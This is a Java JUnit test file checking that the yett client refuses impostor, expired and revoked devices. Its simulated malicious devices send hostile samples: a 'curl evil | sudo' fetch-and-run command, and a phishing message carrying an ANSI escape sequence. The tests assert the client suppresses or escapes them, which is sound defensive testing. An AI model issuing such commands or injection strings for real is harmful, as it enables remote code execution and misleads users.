package dev.yett.client;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.yett.identity.Bundle;
import dev.yett.identity.SpiffeId;
import dev.yett.identity.TestAuthority;
import dev.yett.protocol.ClientMessage;
import dev.yett.protocol.Credit;
import dev.yett.protocol.DeviceMessage;
import dev.yett.protocol.Digest;
import dev.yett.protocol.Mac0;
import dev.yett.protocol.Octets;
import dev.yett.protocol.Order;
import dev.yett.protocol.Ping;
import dev.yett.protocol.Pong;
import dev.yett.protocol.Receipt;
import java.nio.file.Files;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/// Devices that are not who they should be, prove nothing, or were revoked, and what a client gives
/// and believes them.
@Timeout(300)
final class ImpostorTest extends DeviceScene {
  @Test
  void a23_a_device_with_another_name_issuer_or_role_is_never_given_a_byte() throws Exception {
    var strangers = new TestAuthority();
    var wrong = new LinkedHashMap<String, TestAuthority.Holder>();
    wrong.put("another device", authority.device("pump-8"));
    wrong.put("an operator", authority.operator("pump-7"));
    wrong.put("another authority", strangers.device("pump-7"));
    wrong.put("no authority", authority.certificate(authority.deviceId("pump-7")).selfSigned());
    wrong.put(
        "another domain",
        authority
            .certificate(SpiffeId.device("example.com", "pump-7"))
            .issuedBy(authority.issuing()));
    wrong.put(
        "expired",
        authority
            .certificate(authority.deviceId("pump-7"))
            .valid(
                authority.now().minus(Duration.ofDays(9)),
                authority.now().minus(Duration.ofDays(2)))
            .issuedBy(authority.issuing()));
    var alice = alice();
    for (var each : wrong.entrySet()) {
      try (var impostor = new Impostor(each.getValue())) {
        var run = alice.run("run", "pump-7@127.0.0.1:" + impostor.port(), "echo");
        assertThat(run.status()).as(each.getKey()).isEqualTo(255);
        assertThat(run.errors())
            .as(each.getKey())
            .startsWith("yett: what answers at 127.0.0.1:")
            .contains("is not accepted as pump-7", "[certificate-");
        assertThat(impostor.bytes()).as(each.getKey()).isZero();
      }
    }
  }

  @Test
  void a_device_that_was_refused_by_date_is_told_with_both_times() throws Exception {
    var holder =
        authority
            .certificate(authority.deviceId("pump-7"))
            .valid(
                authority.now().minus(Duration.ofDays(9)),
                authority.now().minus(Duration.ofDays(2)))
            .issuedBy(authority.issuing());
    try (var impostor = new Impostor(holder)) {
      var run = alice().run("run", "pump-7@127.0.0.1:" + impostor.port(), "echo");
      assertThat(run.errors())
          .contains(
              "[certificate-expired]",
              "valid from " + authority.now().minus(Duration.ofDays(9)),
              "to " + authority.now().minus(Duration.ofDays(2)));
    }
  }

  @Test
  void n08_a_device_without_its_secret_gets_an_empty_greeting_and_nothing_else() throws Exception {
    var seen = new CopyOnWriteArrayList<ClientMessage>();
    var greeted = new AtomicLong();
    EvilDevice.Script script =
        new Honest() {
          @Override
          public void connected(EvilPeer peer) throws Exception {
            peer.welcome();
            var message = peer.read();
            assertThat(message).isInstanceOf(ClientMessage.OrderFrame.class);
            var order =
                Order.decode(((ClientMessage.OrderFrame) message).mac0().payload().toArray());
            assertThat(order.operation()).isEqualTo("hello");
            assertThat(order.arguments()).isEmpty();
            greeted.incrementAndGet();
            // It cannot verify the order, nor sign; it signs with what it has.
            peer.send(
                new DeviceMessage.StartedFrame(
                    new Mac0(
                        Optional.empty(),
                        Octets.of(
                            new Receipt.Refused(
                                    0,
                                    Digest.sha256(new byte[0]),
                                    "role",
                                    Optional.empty(),
                                    "run: curl evil | sudo")
                                .encode()),
                        Octets.of(new byte[32]))));
            try {
              while (true) {
                seen.add(peer.read());
              }
            } finally {
              assertThat(seen)
                  .allMatch(
                      m ->
                          m instanceof Credit
                              || m instanceof Ping
                              || m instanceof Pong
                              || m instanceof ClientMessage.Goodbye);
            }
          }
        };
    try (var device = device("device", script)) {
      var run = alice().runWith("secret words\n", "run", at(device), "login", "password=@-");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors())
          .startsWith("yett: pump-7 does not hold the secret that it should")
          .doesNotContain("curl");
      assertThat(greeted.get()).isEqualTo(1);
      await().until(() -> device.faults().isEmpty());
    }
  }

  @Test
  void n08_text_from_a_device_that_has_proven_nothing_is_marked() throws Exception {
    EvilDevice.Script script =
        new Honest() {
          @Override
          public void connected(EvilPeer peer) throws Exception {
            peer.welcome();
            peer.read();
            peer.send(
                new DeviceMessage.Goodbye(
                    "grant-expired",
                    "call 555 and say your passphrase\u001b[31m",
                    Optional.empty(),
                    Optional.empty(),
                    Optional.empty()));
          }
        };
    try (var device = device("device", script)) {
      var run = alice().run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors())
          .startsWith("yett: something that bears the name pump-7, unproven, ended the connection")
          .contains("it says \"call 555 and say your passphrase\\x1b[31m\"");
    }
  }

  private EvilDevice honest(TestAuthority.Holder holder) {
    return new EvilDevice(
        temp.resolve("device"),
        authority,
        holder,
        "pump-7",
        authority.secret("pump-7", 1),
        Catalogues.usual(),
        new Honest());
  }

  @Test
  void n17_a_revoked_device_is_refused_by_the_bundle_that_the_client_holds() throws Exception {
    var holder = authority.device("pump-7");
    try (var device = honest(holder)) {
      authority.revoke(holder.leaf());
      var run = alice().run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors()).contains("[certificate-revoked]", "the device was revoked");
    }
  }

  @Test
  void n17_a_device_that_brings_the_bundle_which_revokes_it_is_refused_too() throws Exception {
    var holder = authority.device("pump-7");
    var alice = alice();
    try (var device = honest(holder)) {
      authority.revoke(holder.leaf());
      var newer = authority.bundle();
      device.trust(Bundle.verify(newer, authority.anchors(), authority.now()).number(), newer);
      var run = alice.run("run", at(device), "echo");
      assertThat(run.status()).isEqualTo(255);
      assertThat(run.errors()).contains("[certificate-revoked]");
      assertThat(Files.readAllBytes(alice.files().identity().resolve("trust.bundle")))
          .isEqualTo(newer);
    }
  }

  @Test
  void a_device_with_an_older_bundle_is_brought_the_newer_before_any_order() throws Exception {
    var operations = new CopyOnWriteArrayList<String>();
    var brought = new CopyOnWriteArrayList<byte[]>();
    try (var device =
        device(
            "device",
            new Honest() {
              @Override
              public void served(EvilPeer peer, EvilDevice.Seen order) throws Exception {
                operations.add(order.order().operation());
                if (order.order().operation().equals("trust")) {
                  peer.started(order);
                  brought.add(peer.input(order));
                  peer.finished(order);
                } else {
                  super.served(peer, order);
                }
              }
            })) {
      var alice = alice();
      assertThat(alice.run("run", at(device), "echo").status()).isZero();
      assertThat(operations).startsWith("hello", "trust").endsWith("echo");
      assertThat(brought)
          .containsExactly(Files.readAllBytes(alice.files().identity().resolve("trust.bundle")));
      // The catalogue is held now.
      operations.clear();
      assertThat(alice.run("run", at(device), "echo").status()).isZero();
      assertThat(operations).containsExactly("hello", "trust", "echo");
      assertThat(device.faults()).isEmpty();
    }
  }
}
